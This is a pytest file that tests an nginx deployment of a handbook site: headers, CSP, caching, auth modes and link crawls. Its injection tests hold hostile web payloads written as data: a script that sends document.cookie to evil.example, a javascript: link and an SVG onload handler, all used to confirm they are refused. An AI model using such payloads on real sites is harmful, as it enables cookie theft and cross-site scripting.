"""Serving the built handbook with Debian's nginx, as deploy/README.md describes.

Each test server is the real deploy/nginx/handbook.conf rendered by deploy/render_nginx.py
for a copy of the built site, run in the foreground on 127.0.0.1 from a private prefix.
Checked: compression, cache headers, security headers, a Content-Security-Policy the site
passes in Chromium, a linkchecker crawl of the whole site, and both access-control modes. The crawl
with the anchor check runs in two parts, test_nginx_anchors_traditional.py and test_nginx_anchors_simplified.py;
that together they parse every page once is proven here (nginx_server.py has the servers and crawls).
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import json
import re
import shutil
import subprocess
from pathlib import Path

import pytest

from conftest import missing_tool, search, world_readable_copy, world_readable_dir
from nginx_server import (ANCHOR_PARTS, CRAWL_HEADER, NGINX, NO_NGINX, Nginx, anchor_nofollow, anchor_part, crawl,
                          crawl_anchors, page_pattern, render_nginx, site_pages)

USER, PASSWORD = "editor", "hand-book-2024"
PLAYBOOK = "playbooks/options-abc/"
CHECKLIST = "checklists/project-kickoff/"
HASHED = re.compile(r"^assets/(javascripts|stylesheets)/(.+/)?[\w-]+\.[0-9a-f]{8}\.min\.(js|css)$")
SECURITY_HEADERS = {"x-content-type-options": "nosniff", "referrer-policy": "same-origin",
                    "x-frame-options": "DENY"}


# --------------------------------------------------------------------------- helpers

def ssha(password: str, salt: bytes = b"handbook") -> str:
    """An RFC 2307 {SSHA} htpasswd entry, which nginx accepts without any extra tool."""
    digest = hashlib.sha1(password.encode() + salt).digest()
    return "{SSHA}" + base64.b64encode(digest + salt).decode()


def basic(user: str, password: str) -> dict[str, str]:
    token = base64.b64encode(f"{user}:{password}".encode()).decode()
    return {"Authorization": f"Basic {token}"}


# --------------------------------------------------------------------------- fixtures

@pytest.fixture(scope="session", autouse=True)
def nginx_installed():
    """In CI a missing nginx is a failure, never a skip."""
    if not NGINX:
        missing_tool(NO_NGINX)


@pytest.fixture(scope="session")
def served_site(site) -> Path:
    """A world-readable copy of the build (pytest's temporary folders are 0700, and the nginx
    workers and linkchecker drop to nobody), plus a dotfile that must never be served."""
    with world_readable_copy(site, "handbook-site-") as target:
        add_traps(target)
        yield target


def add_traps(target: Path) -> None:
    """Put into the served copy a dotfile, a symlink out of the site and backups that nginx must never serve."""
    holder = target.parent
    (target / ".env").write_text("SECRET=1\n", encoding="utf-8")
    (target / ".env").chmod(0o644)
    secret = holder / "secret.txt"  # readable by nginx, but outside the site: a symlink must not publish it
    secret.write_text("SECRET=2\n", encoding="utf-8")
    secret.chmod(0o644)
    (target / "leak.txt").symlink_to(secret)
    for name in ("index.md~", "notes.bak", ".page.md.swp", "x.orig"):
        (target / name).write_text("backup\n", encoding="utf-8")
        (target / name).chmod(0o644)


@pytest.fixture(scope="session")
def start_nginx(served_site):
    """Start nginx servers on demand; all are stopped at the end of the session."""
    servers: list[Nginx] = []

    def start(auth: str = "none", site_dir: Path | None = None, **render) -> Nginx:
        if auth == "basic":
            render.setdefault("htpasswd_lines", (f"{USER}:{ssha(PASSWORD)}",))
        server = Nginx(site_dir or served_site, auth, **render)
        servers.append(server)
        return server

    yield start
    for server in servers:
        server.stop()


@pytest.fixture(scope="session")
def open_server(start_nginx) -> Nginx:
    return start_nginx("none")


OPENSSL_USER = "reviewer"


@pytest.fixture(scope="session")
def basic_server(start_nginx) -> Nginx:
    lines = [f"{USER}:{ssha(PASSWORD)}"]
    if shutil.which("openssl"):  # the way deploy/README.md creates entries: SHA-512 crypt
        hashed = subprocess.run(["openssl", "passwd", "-6", "-stdin"], input=PASSWORD,
                                capture_output=True, text=True, check=True).stdout.strip()
        lines.append(f"{OPENSSL_USER}:{hashed}")
    return start_nginx("basic", htpasswd_lines=tuple(lines))


@pytest.fixture(scope="session")
def sso_server(start_nginx) -> Nginx:
    return start_nginx("sso")


# --------------------------------------------------------------------------- the rendered file

def test_rendered_config_is_complete(open_server, served_site):
    conf = open_server.conf
    live = "\n".join(line for line in conf.splitlines() if not line.lstrip().startswith("#"))
    assert "@" not in live.replace("'self'", "")
    assert f"root {served_site};" in conf
    assert "daemon off;" in (open_server.prefix / "nginx.conf").read_text()
    # No add_header inside a location: nginx would drop every inherited header there.
    for block in re.findall(r"location [^{]*\{[^}]*\}", live):
        assert "add_header" not in block, block


def test_render_refuses_incomplete_access_control(served_site):
    with pytest.raises(SystemExit, match="--htpasswd"):
        render_nginx.render_site_conf(served_site, "8080", auth="basic")
    with pytest.raises(SystemExit, match="--sso-trusted"):
        render_nginx.render_site_conf(served_site, "8080", auth="sso")
    with pytest.raises(SystemExit, match="build the site"):
        render_nginx.render_site_conf(served_site / "nowhere", "8080")


def test_render_refuses_inline_code_hashes_cannot_allow(tmp_path):
    (tmp_path / "index.html").write_text('<p style="color: red">x</p><button onclick="go()">go</button>',
                                         encoding="utf-8")
    with pytest.raises(SystemExit, match="onclick"):
        render_nginx.build_csp(tmp_path)
    assert "script-src 'self' 'unsafe-inline'" in render_nginx.build_csp(tmp_path, "unsafe-inline")
    (tmp_path / "index.html").write_text('<p style="color: red">x</p>', encoding="utf-8")
    with pytest.raises(SystemExit, match="style attribute"):
        render_nginx.build_csp(tmp_path)


@pytest.fixture
def site_copy(site, tmp_path) -> Path:
    """A copy of the built handbook to tamper with."""
    copy = tmp_path / "site"
    shutil.copytree(site, copy)
    return copy


@pytest.mark.parametrize("injected,reason", [
    ("<script>fetch('https://evil.example/?' + document.cookie)</script>", "unreviewed inline script"),
    ("<style>body { display: none }</style>", "unreviewed inline style"),
    ('<meta http-equiv="Refresh" content="0; url=https://evil.example/">', "meta http-equiv=refresh"),
    ('<base href="https://evil.example/">', "<base> tag"),
    ('<a href=" javascript:alert(1)">x</a>', "不允許「javascript:」開頭的網址 <a href>"),
    ('<img src="/\\evil.example/a.png" alt="">', "不可來自「evil.example」 <img src>"),
    ('<link rel="stylesheet" href="//evil.example/x.css">', "不可來自「evil.example」 <link href>"),
    ('<img src="a.png" srcset="x.png 1x, https://evil.example/y.png 2x" alt="">', "<img srcset>"),
    ('<img src="https://ex\uff0fample.com/a.png" alt="">', "格式看不懂"),
])
def test_render_refuses_a_site_with_unreviewed_or_active_inline_code(site_copy, injected, reason):
    page = site_copy / PLAYBOOK / "index.html"
    page.write_text(page.read_text(encoding="utf-8").replace("</article>", injected + "</article>", 1),
                    encoding="utf-8")
    with pytest.raises(SystemExit, match=re.escape(reason)):
        render_nginx.build_csp(site_copy)


def test_render_accepts_a_refresh_within_the_site_but_no_other(site_copy):
    """The pages kept at a playbook's old address send readers on with a relative meta refresh; anything else is
    still refused."""
    page = site_copy / PLAYBOOK / "index.html"
    original = page.read_text(encoding="utf-8")
    page.write_text(original.replace("</article>", '<meta http-equiv="refresh" content="0; url=../x/"></article>', 1),
                    encoding="utf-8")
    render_nginx.build_csp(site_copy)
    page.write_text(original.replace("</article>", '<meta http-equiv="refresh" content="0; url=/\\evil.example/">'
                                     "</article>", 1), encoding="utf-8")
    with pytest.raises(SystemExit, match="meta http-equiv=refresh"):
        render_nginx.build_csp(site_copy)


@pytest.mark.parametrize("name,content,reason", [
    ("help.html", '<script src="/evil.js"></script>', "help.html: an HTML page the build did not write"),
    ("playbooks/one-channel/extra.htm", "<p>x</p>", "extra.htm: an HTML page the build did not write"),
    ("evil.js", "alert(1)", "evil.js: a .js file outside the reviewed paths"),
    ("images/logo.svg", "<svg onload=alert(1)/>", "images/logo.svg: a .svg file outside the reviewed paths"),
    ("feed.xml", "<x/>", "feed.xml: a .xml file outside the reviewed paths"),
    ("zh-Hans/page.xhtml", "<x/>", "zh-Hans/page.xhtml: an HTML page the build did not write"),
])
def test_render_refuses_a_site_with_a_page_or_script_the_build_did_not_write(site_copy, name, content, reason):
    (site_copy / name).parent.mkdir(parents=True, exist_ok=True)
    (site_copy / name).write_text(content, encoding="utf-8")
    with pytest.raises(SystemExit, match=re.escape(reason)):
        render_nginx.build_csp(site_copy)


def test_render_needs_the_builds_list_of_pages(site_copy):
    (site_copy / ".handbook-pages.json").unlink()
    with pytest.raises(SystemExit, match="handbook-pages.json missing"):
        render_nginx.build_csp(site_copy)


def test_the_builds_list_holds_every_page_of_both_editions_and_every_script_is_at_a_reviewed_path(site):
    listed = set(json.loads((site / ".handbook-pages.json").read_text(encoding="utf-8"))["pages"])
    assert listed == {p.relative_to(site).as_posix() for p in site.rglob("*.html")}
    assert [p.relative_to(site).as_posix() for p in site.rglob(".handbook-pages.json")] == [".handbook-pages.json"]
    assert render_nginx.site_files_problems(site, render_nginx.reviewed_inline()["files"]) == []


def test_every_inline_script_of_the_build_is_reviewed_and_the_list_has_no_stale_entry(site):
    """A new inline script in the theme or the handbook fails here until a person reviews and lists it."""
    found = render_nginx.scan_site(site)
    reviewed = render_nginx.reviewed_inline()
    assert found.problems == []
    assert found.script_hashes == set(reviewed["scripts"]), "update deploy/csp-inline.json after review"
    assert found.style_element_hashes == set(reviewed["styles"])
    assert found.style_attribute_hashes == set()
    assert all(reviewed["scripts"].values())  # each says what emits it


def test_hsts_only_in_tls_mode(served_site):
    live = [line for line in render_nginx.render_site_conf(served_site, "8080").splitlines()
            if not line.lstrip().startswith("#")]
    assert not any("Strict-Transport-Security" in line for line in live)
    assert 'add_header Strict-Transport-Security "max-age=31536000" always;' in \
        render_nginx.render_site_conf(served_site, "8080", hsts=True)


def test_csp_allows_exactly_the_inline_scripts_of_the_build(open_server, served_site):
    policy = open_server.get("").header("Content-Security-Policy")
    directives = {part.split()[0]: part.split()[1:] for part in policy.split("; ")}
    inline = set()
    for page in served_site.rglob("*.html"):
        for attributes, body in re.findall(r"<script([^>]*)>(.*?)</script>", page.read_text(), re.S):
            if "src=" not in attributes and "application/json" not in attributes:
                inline.add(body)
    assert inline, "Material's pages always carry inline scripts"
    assert set(directives["script-src"]) == {"'self'", "'wasm-unsafe-eval'"} | {render_nginx.csp_hash(s) for s in inline}
    assert "'unsafe-inline'" not in policy and "'unsafe-eval'" not in policy and "'unsafe-hashes'" not in policy
    assert directives["object-src"] == ["'none'"]
    assert directives["frame-ancestors"] == ["'none'"]
    assert directives["worker-src"] == ["'self'"]
    assert directives["img-src"] == ["'self'", "data:"]


# --------------------------------------------------------------------------- headers

@pytest.mark.parametrize("path", ["", PLAYBOOK, CHECKLIST, "404.html"])
def test_pages_are_gzipped_revalidated_and_protected(open_server, served_site, path):
    response = open_server.get(path, {"Accept-Encoding": "gzip"})
    assert response.status == 200
    assert response.header("Content-Type") == "text/html; charset=utf-8"
    assert response.header("Content-Encoding") == "gzip"
    assert response.header("Vary") == "Accept-Encoding"
    assert response.header("Cache-Control") == "no-cache"
    assert response.header("ETag") and response.header("Last-Modified")
    file = served_site / path / "index.html" if not path.endswith(".html") else served_site / path
    assert gzip.decompress(response.body) == file.read_bytes()
    for name, value in SECURITY_HEADERS.items():
        assert response.header(name) == value
    assert response.header("Content-Security-Policy")
    assert response.header("Server") == "nginx"  # server_tokens off: no version


def test_gzip_ratio_of_a_playbook_page(open_server, served_site):
    raw = (served_site / PLAYBOOK / "index.html").read_bytes()
    compressed = open_server.get(PLAYBOOK, {"Accept-Encoding": "gzip"}).body
    ratio = len(compressed) / len(raw)
    print(f"\n{PLAYBOOK}: {len(raw)} bytes -> {len(compressed)} gzipped ({ratio:.0%})")
    assert ratio < 0.35
    plain = open_server.get(PLAYBOOK)
    assert plain.header("Content-Encoding") is None and plain.body == raw


def test_hashed_assets_are_immutable_and_gzipped(open_server, served_site):
    hashed = [p.relative_to(served_site).as_posix() for p in (served_site / "assets").rglob("*")
              if HASHED.match(p.relative_to(served_site).as_posix())]
    kinds = {Path(p).suffix for p in hashed}
    assert kinds == {".js", ".css"} and any("/workers/" in p for p in hashed), hashed
    for path in hashed:
        response = open_server.get(path, {"Accept-Encoding": "gzip"})
        assert response.status == 200, path
        assert response.header("Cache-Control") == "public, max-age=31536000, immutable", path
        assert response.header("Content-Encoding") == "gzip", path
        assert response.header("Content-Type").startswith(
            "application/javascript" if path.endswith(".js") else "text/css"), path
        assert response.header("X-Content-Type-Options") == "nosniff"
        assert gzip.decompress(response.body) == (served_site / path).read_bytes()


def test_other_files_cache_briefly_and_data_revalidates(open_server, served_site):
    entry = open_server.get("pagefind/pagefind-entry.json", {"Accept-Encoding": "gzip"})
    assert entry.header("Cache-Control") == "no-cache"
    assert entry.header("Content-Type") == "application/json; charset=utf-8"
    lexicon = open_server.get("zh-Hans/pagefind/handbook-lexicon.json", {"Accept-Encoding": "gzip"})
    assert lexicon.header("Content-Encoding") == "gzip" and lexicon.header("Cache-Control") == "no-cache"
    # Pagefind's index files are compressed already and named by their content.
    fragment = next((served_site / "pagefind" / "fragment").iterdir()).relative_to(served_site).as_posix()
    response = open_server.get(fragment, {"Accept-Encoding": "gzip"})
    assert response.status == 200 and response.header("Content-Encoding") is None
    assert response.header("Cache-Control") == "max-age=31536000, immutable"
    assert response.header("Content-Type") == "application/octet-stream"
    assert response.body == (served_site / fragment).read_bytes()
    for path in ("assets/handbook.css", "assets/images/favicon.png",
                 "assets/javascripts/lunr/min/lunr.zh.min.js"):
        response = open_server.get(path, {"Accept-Encoding": "gzip"})
        assert response.status == 200, path
        assert response.header("Cache-Control") == "max-age=300", path
    assert open_server.get("assets/images/favicon.png", {"Accept-Encoding": "gzip"}).header(
        "Content-Encoding") is None


def test_missing_pages_redirects_and_dotfiles(open_server, served_site):
    not_found_pages = sorted(served_site.rglob("404.html"))
    assert not_found_pages[0] == served_site / "404.html"
    for page in not_found_pages:  # the site's and each edition's own (zh-Hans/)
        folder = page.parent.relative_to(served_site).as_posix().removeprefix(".")
        missing = open_server.get(f"{folder}/no-such-page/")
        assert missing.status == 404, folder
        assert missing.body == page.read_bytes(), folder
        assert missing.header("Cache-Control") is None
        assert missing.header("Content-Security-Policy") and missing.header("X-Frame-Options") == "DENY"
    redirect = open_server.get(PLAYBOOK.rstrip("/"))
    assert redirect.status == 301
    assert redirect.header("Location") == "/" + PLAYBOOK  # relative: right behind any proxy
    assert open_server.get(".env").status == 404


def test_symlinks_backups_and_source_maps_are_never_served(open_server, served_site):
    for name in ("leak.txt", "index.md~", "notes.bak", ".page.md.swp", "x.orig"):
        assert open_server.get(name).status == 404, name
    maps = sorted(served_site.rglob("*.map"))
    assert maps, "Material ships source maps; nginx must refuse them"
    assert open_server.get(maps[0].relative_to(served_site).as_posix()).status == 404


# --------------------------------------------------------------------------- access control

def test_basic_auth_refuses_requests_without_credentials(basic_server, served_site):
    for path in ("", PLAYBOOK, "assets/handbook.css", "pagefind/pagefind-entry.json"):
        refused = basic_server.get(path)
        assert refused.status == 401, path
        assert refused.header("WWW-Authenticate") == 'Basic realm="Handbook"'
        assert refused.header("Cache-Control") is None  # never "immutable" on a refusal
        assert refused.header("X-Content-Type-Options") == "nosniff"
    assert basic_server.get("", basic(USER, "wrong")).status == 401
    assert basic_server.get("", basic("someone", PASSWORD)).status == 401
    allowed = basic_server.get(PLAYBOOK, basic(USER, PASSWORD))
    assert allowed.status == 200
    assert allowed.body == (served_site / PLAYBOOK / "index.html").read_bytes()
    if shutil.which("openssl"):
        assert basic_server.get("", basic(OPENSSL_USER, PASSWORD)).status == 200
        assert basic_server.get("", basic(OPENSSL_USER, "wrong")).status == 401


def test_sso_mode_refuses_requests_without_the_proxy_header(sso_server, served_site):
    assert sso_server.get("").status == 403
    assert sso_server.get(PLAYBOOK, {"X-Remote-User": ""}).status == 403
    assert sso_server.get("assets/handbook.css").status == 403
    allowed = sso_server.get(PLAYBOOK, {"X-Remote-User": "alice"})
    assert allowed.status == 200
    assert allowed.body == (served_site / PLAYBOOK / "index.html").read_bytes()
    assert allowed.header("Content-Security-Policy")


def test_sso_mode_refuses_clients_other_than_the_proxy(start_nginx):
    # The proxy is somewhere else: a client reaching nginx directly cannot forge the header.
    server = start_nginx("sso", sso_trusted=["192.0.2.10"])
    assert server.get("", {"X-Remote-User": "mallory"}).status == 403


# --------------------------------------------------------------------------- linkchecker

@pytest.fixture(scope="session")
def crawl_server_factory(start_nginx):
    def start(auth: str, site_dir: Path | None = None) -> Nginx:
        return start_nginx(auth, site_dir=site_dir, extra=CRAWL_HEADER)
    return start


def test_linkchecker_crawls_the_whole_site_without_errors(crawl_server_factory, served_site):
    """From the home page with credentials, every page is reached and every link and resource answers. The
    anchors are checked by the anchor crawl's two parts (test_nginx_anchors_*.py), whose cover is proven below."""
    server = crawl_server_factory("basic")
    result = crawl(server, credentials=(USER, PASSWORD), anchors=False)
    assert result.run.returncode == 0 and result.counts == ("0", "0"), result.log
    assert result.problems == []
    checked = {url.split("#")[0] for url in result.fetched}
    pages = set()
    for page in served_site.rglob("*.html"):
        relative = page.relative_to(served_site).as_posix()
        if relative.endswith("404.html"):  # reached only through nginx's error_page
            continue
        if 'http-equiv="refresh"' in page.read_text(encoding="utf-8"):  # an old address: nothing links to it any more
            continue
        pages.add(server.url + relative.removesuffix("index.html"))
    assert pages <= checked, sorted(pages - checked)
    assert any(url.endswith(".min.js") for url in checked) and any(url.endswith(".css") for url in checked)
    print(f"\nbasic: {len(result.rows)} URLs, {len(checked)} fetched with 200, {len(pages)} pages")


def test_the_anchor_crawls_parse_every_built_page_exactly_once(served_site):
    """Each part starts at its edition's pages; every other page, and every URL with a #fragment, matches one of
    its nofollow patterns (searched as linkchecker does), so it is checked there but parsed by its own part."""
    url = "http://127.0.0.1:8080/"
    pages = site_pages(served_site)
    html = {p.relative_to(served_site).as_posix() for p in served_site.rglob("*.html")}
    assert {page if page.endswith(".html") else page + "index.html" for page in pages} == html
    assert {anchor_part(page) for page in pages} == set(ANCHOR_PARTS)
    parts = {part: [page for page in pages if anchor_part(page) == part] for part in ANCHOR_PARTS}
    nofollow = {part: [re.compile(p) for p in anchor_nofollow(url, pages, parse)] for part, parse in parts.items()}
    for page in pages:
        forms = [url + page, url + page + "?type=kickoff"] + ([url + page + "index.html"] if page.endswith("/") else [])
        for form in forms:
            parsed_by = [part for part in ANCHOR_PARTS if not any(p.search(form) for p in nofollow[part])]
            assert parsed_by == [anchor_part(page)], (form, parsed_by)
        assert all(any(p.search(url + page + "#top") for p in nofollow[part]) for part in ANCHOR_PARTS), page
    assert sorted(sum(parts.values(), [])) == pages  # started once: the parts are disjoint and cover the build
    assert not re.search(page_pattern(url, "playbooks/a/"), url + "playbooks/a/b/")  # a page, not its subfolders


def test_linkchecker_setup_reports_broken_links_and_anchors(crawl_server_factory, served_site):
    """The crawls would notice breakage: a copy of the site with a broken link and broken anchors on one page,
    crawled the way a part of the anchor crawl is (that page parsed, every other page checked, not parsed)."""
    holder = world_readable_dir("handbook-broken-")
    broken = holder / "site"
    shutil.copytree(served_site, broken)
    page = broken / PLAYBOOK / "index.html"
    page.write_text(page.read_text(encoding="utf-8").replace(
        "</article>", '<a href="../../no-such-page/">x</a><a href="../../#no-such-anchor">y</a>'
        '<a href="#no-such-heading">z</a><a href="../../zh-Hans/#no-such-simplified-anchor">w</a></article>', 1),
        encoding="utf-8")
    try:
        server = crawl_server_factory("none", site_dir=broken)
        result = crawl_anchors(server, [PLAYBOOK])
    finally:
        shutil.rmtree(holder, ignore_errors=True)
    assert result.run.returncode == 1
    assert any(row["url"].endswith("/no-such-page/") and row["result"].startswith("404")
               for row in result.problems), result.problems
    warned = {row["url"].removeprefix(server.url): row["warningstring"] for row in result.rows if row["warningstring"]}
    assert {"#no-such-anchor", PLAYBOOK + "#no-such-heading", "zh-Hans/#no-such-simplified-anchor"} == \
        {url for url, warning in warned.items() if "not found" in warning}, warned
    assert result.counts == ("3", "1"), result.log


# --------------------------------------------------------------------------- the browser

INIT_SCRIPT = """
window.__cspViolations = [];
document.addEventListener('securitypolicyviolation', e => window.__cspViolations.push(
    `${e.effectiveDirective} blocked ${e.blockedURI || 'inline'} at ${e.sourceFile}:${e.lineNumber}`));
"""


def browse(browser, server: Nginx, visit) -> tuple[list[str], list[str]]:
    """Run visit(page) in a fresh context; returns (CSP violations, console errors) seen."""
    context = browser.new_context(viewport={"width": 1280, "height": 900}, locale="zh-TW")
    context.route("**/*", lambda route: route.continue_() if route.request.url.startswith(
        (server.url, "data:", "blob:")) else route.abort())
    context.add_init_script(INIT_SCRIPT)
    errors: list[str] = []

    def on_console(message):
        if message.type == "error":
            errors.append(message.text)

    page = context.new_page()
    page.on("console", on_console)
    page.on("worker", lambda worker: worker.on("console", on_console))
    page.on("pageerror", lambda error: errors.append(f"page error: {error}"))
    violations: list[str] = []
    try:
        visit(page)
        violations = page.evaluate("window.__cspViolations")
        page.wait_for_timeout(200)  # let late console messages arrive
    finally:
        context.close()
    return violations, errors


def csp_errors(errors: list[str]) -> list[str]:
    return [e for e in errors if "Content Security Policy" in e or "Refused to" in e]


def test_pages_and_search_pass_the_csp_in_chromium(browser, open_server):
    results = {}

    def visit(page):
        for path in ("", PLAYBOOK, CHECKLIST):
            page.goto(open_server.url + path, wait_until="load")
            page.wait_for_load_state("networkidle")
            assert page.locator("article.md-content__inner").count() == 1
            assert page.evaluate("getComputedStyle(document.querySelector('.md-header')).position") == "sticky"
            results[path] = page.evaluate("window.__cspViolations.slice()")
        page.goto(open_server.url, wait_until="load")
        search(page, "負責人")  # Pagefind ran: module import, its worker, fetch, WebAssembly
        items = page.locator(".hb-search__result")
        results["search"] = items.count()

    violations, errors = browse(browser, open_server, visit)
    assert not violations and not any(isinstance(v, list) and v for v in results.values()), (violations, results)
    assert not csp_errors(errors), errors
    assert results["search"] > 0


def test_the_browser_check_does_see_csp_violations(browser, start_nginx, served_site):
    """Control: without the hashes, the inline scripts are blocked and the test notices."""
    policy = render_nginx.build_csp(served_site)
    stripped = re.sub(r"script-src [^;]*", "script-src 'self'", policy)
    server = start_nginx("none", csp=stripped)

    def visit(page):
        page.goto(server.url + PLAYBOOK, wait_until="load")
        page.wait_for_load_state("networkidle")

    violations, errors = browse(browser, server, visit)
    assert any(v.startswith("script-src") for v in violations), violations
    assert csp_errors(errors), errors
